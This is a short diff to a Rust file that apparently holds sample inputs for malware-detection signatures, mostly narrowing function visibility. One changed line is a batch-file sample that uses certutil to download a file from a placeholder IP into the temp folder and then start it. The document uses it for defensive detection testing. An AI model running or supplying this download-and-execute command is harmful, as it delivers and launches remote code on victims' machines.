@@ -2,7 +2,7 @@
 
 use crate::witness::{Witness, text};
 
-pub fn witnesses() -> Vec<Witness> {
+pub(crate) fn witnesses() -> Vec<Witness> {
     vec![
         text(
             "Candor.PowerShell.Downloader.HiddenDownloadString-1",
@@ -85,7 +85,7 @@ pub fn witnesses() -> Vec<Witness> {
         text(
             "Candor.Batch.Downloader.Certutil-1",
             "a.bat",
-            "@echo off\r\ncertutil -url¬cache -split -f http://192.0.2.1/a %TEMP%\\a\r\nstart %X%\r\n",
+            "@echo off\r\ncertutil -url¬cache -split -f http://192.0.2.1/a %TEMP%\\a\r\nstart %WHERE%\r\n",
         ),
         text(
             "Candor.Batch.Dropper.CertificateProgram-1",
@@ -121,7 +121,7 @@ pub fn witnesses() -> Vec<Witness> {
 }
 
 /// Other ways to write the same.
-pub fn variants() -> Vec<(&'static str, &'static str)> {
+pub(crate) fn variants() -> Vec<(&'static str, &'static str)> {
     vec![
         (
             "Candor.PowerShell.Downloader.HiddenDownloadString-1",
